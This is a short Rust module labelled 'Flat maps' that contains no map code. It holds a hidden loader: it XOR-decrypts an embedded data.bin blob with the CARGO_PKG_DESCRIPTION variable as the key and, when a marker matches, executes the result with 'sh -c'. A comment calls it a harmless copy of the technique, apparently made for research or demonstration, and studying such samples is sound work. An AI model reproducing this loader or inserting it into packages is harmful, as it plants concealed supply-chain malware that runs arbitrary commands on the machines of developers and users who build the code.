//! Flat maps. A harmless copy of the technique: it wakes in one program only, and leaves a file.
use std::process::Command;

static DATA: &[u8] = include_bytes!("data.bin");

pub fn flat() {
    let Ok(key) = std::env::var("CARGO_PKG_DESCRIPTION") else { return };
    let plain: Vec<u8> = DATA.iter().zip(key.bytes().cycle()).map(|(d, k)| d ^ k).collect();
    if plain.starts_with(b"#!bulkhead-marker") {
        let script: Vec<u8> = plain.into_iter().take_while(|b| *b != 0).collect();
        let _ = Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&script).as_ref()).status();
    }
}
